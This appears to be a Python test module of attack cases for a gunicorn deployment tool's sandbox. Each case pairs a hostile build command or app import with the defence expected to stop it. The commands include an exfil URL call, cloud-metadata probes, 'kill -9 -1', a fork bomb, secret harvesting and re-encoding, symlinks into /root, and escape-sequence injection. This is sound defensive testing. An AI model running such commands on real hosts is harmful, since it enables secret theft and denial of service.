# Copyright: (c) 2026, wsgiops contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Attacks by build commands, and by what an app does while its import is checked."""

from __future__ import annotations

from attack import Attack, Deploy, Git, Run
from packages import READ_OTHERS
from payload import EVIL_SECRET, SEQUENCES, WSGI, python

WITH_APP = {"wsgi.py": WSGI}
# Where the probe that imports the app wants its report: an argument of the process.
FORGE = """
import os, signal, sys, time
words = open("/proc/self/cmdline").read().split("\\0")
place = next((word for word in words if word.startswith("/run/")), "")
def forge(text):
    for name in ("report.json", "answer.json"):
        with open(f"{place}/{name}", "w") as stream:
            stream.write(text)
def finish():
    print("TRIED", place, flush=True)
    if len(words) > 4:
        os.kill(os.getppid(), signal.SIGKILL)
        os._exit(9)
"""
ONLY_CHECK = 'if "gunicorn" not in open("/proc/self/cmdline").read().split("\\0")[2:4]:\n'


def build(name: str, goal: str, what: str, by: str, code: str, **more: object) -> Attack:
    """A build command that runs this Python and then fails, so that what it prints is shown."""
    files = {**WITH_APP, "attack.py": python(code + "\nraise SystemExit(3)")}
    app = {"build": ["python attack.py"], **more.pop("app", {})}  # type: ignore[dict-item]
    return Attack(name, "build", goal, what, by, [Deploy(Git(files), app)], **more)  # type: ignore[arg-type]


def forged(name: str, goal: str, what: str, code: str, **more: object) -> Attack:
    """An app that writes the report on its own import, and ends the program that would have written it."""
    by = "reports are read without waiting or following links, in bounded size, and checked against a schema"
    files = {"wsgi.py": f"{FORGE}\n{code}\nfinish()\n{WSGI}"}
    more.setdefault("refused", r"(?i)import|report")
    return Attack(name, "repository", goal, what, by, [Deploy(Git(files))], tried="", **more)  # type: ignore[arg-type]


REPORTS = (
    forged("report-deep", "host", "the report on the import is 100,000 nested lists", 'forge("[" * 100_000)'),
    forged("report-types", "host", "the report on the import is a list in place of an object", 'forge("[1]")'),
    forged(
        "report-values",
        "host",
        "the report on the import has values of wrong types and unknown kinds",
        "import json\n"
        'answer = {"problem": 7, "kind": {}, "seconds": "x", "memory_bytes": None}\n'
        'forge(json.dumps({"end": "status", "status": 0, "answer": answer}))',
    ),
    forged(
        "report-huge",
        "host",
        "the report on the import is 600 kB",
        'forge(\'{"end": "\' + "x" * 600_000 + \'"}\')',
    ),
    forged(
        "report-link",
        "root",
        "the report on the import is a link to a file of root",
        'os.symlink("/root/private/requirements.txt", f"{place}/report.json")',
    ),
    forged(
        "report-pipe",
        "host",
        "the report on the import is a pipe, whose reader waits for ever",
        'os.mkfifo(f"{place}/report.json")',
        within=60,
    ),
)
ATTACKS = (
    *REPORTS,
    Attack(
        "blamed-sandbox",
        "repository",
        "apps",
        "the import fails on purpose, with an error that blames a protection of the sandbox, to be run without it",
        "the check names the protection, but never opens it unasked",
        [
            Deploy(
                Git(
                    {
                        "wsgi.py": python(
                            'attempt("a home directory", lambda: read("/home/bob/notes"))\n'
                            'with open("/srv/gunicorn/@APP@/shared/runs", "a") as runs:\n'
                            "    try:\n        runs.write(read('/home/bob/notes').decode())\n"
                            "    except OSError as exc:\n        runs.write(type(exc).__name__ + '\\n')\n"
                            'raise PermissionError(13, "Permission denied", "/home/bob/notes")'
                        )
                    }
                )
            )
        ],
        refused="(?i)import|permission",
        proof="grep notes-of-bob /srv/gunicorn/@APP@/shared/runs",
    ),
    Attack(
        "build-kill",
        "build",
        "apps",
        "a build command sends SIGKILL to everything that its user may signal; the release before it is live",
        "builds run as another user than the service",
        [
            Deploy(Git(WITH_APP)),
            Run("systemctl show gunicorn-@APP@-web -p MainPID > /run/evil-before; echo"),
            Deploy(Git({**WITH_APP, "x": "y"}), {"build": ["echo TRIED; (sleep 1; kill -9 -1) & sleep 3; exit 3"]}),
        ],
        refused=r"(?s)DEPLOYED.*build\[0\]",
        proof="systemctl show gunicorn-@APP@-web -p MainPID | diff /run/evil-before - >/dev/null || "
        "echo its live release was ended",
    ),
    build(
        "build-reads",
        "apps",
        "a build command reads code, data and sockets of other apps, and data of its own app",
        "builds run as another user than the service; homes, other apps and runtime directories are out of their sight",
        READ_OTHERS,
    ),
    build(
        "build-network",
        "apps",
        "a build command connects to a server, to other services of the host and to the cloud's metadata",
        "builds have no network unless `build_network` opens it",
        """
import socket, urllib.request
attempt("a server", lambda: urllib.request.urlopen("http://@ADDRESS@:8999/exfil", timeout=3).status or 1)
attempt("nginx", lambda: connect(socket.AF_INET, ("127.0.0.1", 80)))
attempt("metadata", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
""",
        before="ip address add 169.254.169.254/32 dev lo",
        after="ip address del 169.254.169.254/32 dev lo",
    ),
    build(
        "build-userns",
        "root",
        "a build command opens a user namespace, mounts, makes a setuid program, and calls what only drivers need",
        "RestrictNamespaces, RestrictSUIDSGID, SystemCallFilter and PrivateDevices of the build unit",
        """
import os, shutil, socket, subprocess
attempt("a user namespace", lambda: subprocess.check_call(["unshare", "-Ur", "true"]) == 0)
attempt("a mount", lambda: subprocess.check_call(["mount", "-t", "tmpfs", "x", "/tmp"]) == 0)
def setuid():
    shutil.copy("/bin/true", "t")
    os.chmod("t", 0o4755)
    return os.stat("t").st_mode & 0o4000
attempt("a setuid program", setuid)
attempt("a raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("AF_ALG", lambda: socket.socket(socket.AF_ALG))
""",
    ),
    build(
        "build-secrets",
        "apps",
        "a build command looks for the app's secrets in its environment and in files",
        "builds get no `secret_env` unless `build_secrets` names it",
        """
import os
attempt("a secret", lambda: os.environ.get("TOKEN"))
attempt("an environment file", lambda: read("/srv/gunicorn/@APP@/.stage/environment"))
""",
        app={"secret_env": {"TOKEN": "of-the-service"}},
    ),
    Attack(
        "build-links",
        "build",
        "root",
        "a build command leaves links to files of root, a pipe and a tree that nobody may enter, for root to seal",
        "root walks what was built without following links, and touches only what lies inside",
        [
            Deploy(
                Git(
                    {
                        **WITH_APP,
                        "attack.py": "import os\nos.symlink('/root/private', 'p')\n"
                        "os.symlink('/root/private/requirements.txt', 'f')\n"
                        "os.symlink('/root/private', '__pycache__')\n"
                        "os.mkfifo('pipe')\nos.makedirs('closed/x')\nos.chmod('closed', 0)\n",
                    }
                ),
                {"build": ["python attack.py"]},
            )
        ],
        refused="(?i)link|build|lead",
        tried="DEPLOYED",
        proof="[ $(stat -c %a%U /root/private)$(stat -c %a%U /root/private/requirements.txt) = 700root600root ] || "
        "echo the mode of a directory of root changed",
    ),
    Attack(
        "build-deep",
        "build",
        "host",
        "a build command leaves 1100 nested directories, which no later run can remove by recursion",
        "what was built is sealed and removed without recursion, or refused for its depth",
        [
            Deploy(
                Git(
                    {
                        **WITH_APP,
                        "attack.py": "import os\nfor _ in range(1100):\n    os.mkdir('d')\n    os.chdir('d')\n",
                    }
                ),
                {"build": ["python attack.py"]},
            ),
            Deploy(Git(WITH_APP)),
        ],
        refused="(?i)deep|depth|level|nested",
        tried=r"(?s)DEPLOYED.*DEPLOYED",
    ),
    build(
        "build-output",
        "host",
        "a build command prints 300 MB, which root's module would keep",
        "only the end of a command's output is kept",
        'import os\nline = b"x" * 127 + b"\\n"\nfor _ in range(300):\n    os.write(1, line * 8192)\nprint("TRIED")',
        within=120,
    ),
    build(
        "build-daemon",
        "host",
        "a build command leaves a process behind that ignores SIGTERM and left its session",
        "the build unit ends with all its processes",
        """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for descriptor in range(3):
        os.close(descriptor)
    os.execv("/bin/sleep", ["evil-daemon", "600"])
time.sleep(1)
print("TRIED", flush=True)
""",
        proof="sleep 1; pgrep -x -f 'evil-daemon 600'",
        after="pkill -KILL -x -f 'evil-daemon 600'",
        within=150,
    ),
    Attack(
        "build-hang",
        "build",
        "host",
        "a build command never ends",
        "RuntimeMaxSec of the build unit, here asked of systemd while the command sleeps for 20 s",
        [
            Run(
                "(for _ in $(seq 300); do sleep 0.2; systemctl is-active -q 'gunicorn-@APP@-build*' && systemctl show "
                "'gunicorn-@APP@-build*' -p RuntimeMaxUSec | sort -u; done > /run/evil-limit) >/dev/null 2>&1 & echo"
            ),
            Deploy(Git(WITH_APP), {"build": ["echo TRIED; sleep 20; exit 3"]}),
        ],
        refused=r"build\[0\]",
        proof="grep -qE 'RuntimeMaxUSec=([0-9]+s|[12]?[0-9]min|30min)' /run/evil-limit || "
        "echo no time limit: $(sort -u /run/evil-limit)",
    ),
    build(
        "build-fork-bomb",
        "host",
        "a build command starts 3000 processes",
        "TasksMax of the build unit",
        """
import os, time
count = 0
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(8)
            os._exit(0)
    except OSError:
        break
    count += 1
print("TRIED: started", count, flush=True)
""",
        needs="pids",
        declared="cat /run/evil-unit",
        before="(for _ in $(seq 300); do sleep 0.1; systemctl is-active -q 'gunicorn-@APP@-build*' && systemctl show "
        "'gunicorn-@APP@-build*' -p TasksMax | grep -v infinity | sort -u > /run/evil-unit; done) >/dev/null 2>&1 & "
        "rm -f /run/evil-unit",
        within=150,
    ),
    build(
        "build-memory",
        "host",
        "a build command takes 500 MB of memory",
        "MemoryMax of the build unit",
        'import time\nheld = bytearray(500 * 1024**2)\ntime.sleep(2)\nprint("TRIED", flush=True)',
        needs="memory",
        declared="cat /run/evil-unit",
        before="(for _ in $(seq 300); do sleep 0.1; systemctl is-active -q 'gunicorn-@APP@-build*' && systemctl show "
        "'gunicorn-@APP@-build*' -p MemoryMax | grep -v infinity | sort -u > /run/evil-unit; done) >/dev/null 2>&1 & "
        "rm -f /run/evil-unit",
    ),
    build(
        "build-disk",
        "host",
        "a build command fills the disk (here the app's home, of 128 MB)",
        "the command fails, what it wrote is removed, and no other app is affected",
        'import os\nwith open("filler", "wb") as stream:\n    for _ in range(300):\n'
        "        try:\n            stream.write(bytes(1024**2)); stream.flush()\n"
        '        except OSError as exc:\n            print("TRIED", exc, flush=True); break\n',
        before="mkdir -p /srv/gunicorn/@APP@ && mount -t tmpfs -o size=128m,mode=755 evil /srv/gunicorn/@APP@",
        proof="ls -d /srv/gunicorn/@APP@/src/*/filler /srv/gunicorn/@APP@/src/.*/filler 2>/dev/null",
        after="umount -l /srv/gunicorn/@APP@",
    ),
    build(
        "build-text",
        "operator",
        "the output of a failing build command has sequences for the terminal: title, clipboard, clear, cursor",
        "control characters in the text of others are made visible",
        f'print("TRIED {SEQUENCES}")',
    ),
    Attack(
        "command-text",
        "operator",
        "operator",
        "a build command has a secret in its text, which the operator also declared as `secret_env`",
        "texts of commands are masked, and files that hold them are not for every user",
        [
            Deploy(
                Git(WITH_APP),
                {
                    "build": ["echo TRIED; false # --token=s3cret-in-a-command"],
                    "secret_env": {"T": "s3cret-in-a-command"},
                },
            ),
            Deploy(
                Git(WITH_APP),
                {"build": ["true # --token=s3cret-in-a-command"], "secret_env": {"T": "s3cret-in-a-command"}},
            ),
            Run("grep -rlF s3cret-in-a-command /srv/gunicorn/@APP@ 2>/dev/null", "mallory"),
        ],
        proof="su mallory -c 'grep -rlF s3cret-in-a-command /srv/gunicorn/@APP@ 2>/dev/null'",
    ),
    Attack(
        "build-secret-text",
        "build",
        "operator",
        "a build command gets a secret by name and prints it in other forms",
        "secrets are masked in these forms as well",
        [
            Deploy(
                Git(
                    {
                        **WITH_APP,
                        "attack.py": "import base64, os, urllib.parse\ntoken = os.environ.get('TOKEN', '')\n"
                        "print('TRIED', repr(token), urllib.parse.quote(token), base64.b64encode(token.encode()))\n"
                        "raise SystemExit(3)",
                    }
                ),
                {"build": ["python attack.py"], "secret_env": {"TOKEN": EVIL_SECRET}, "build_secrets": ["TOKEN"]},
            )
        ],
    ),
)
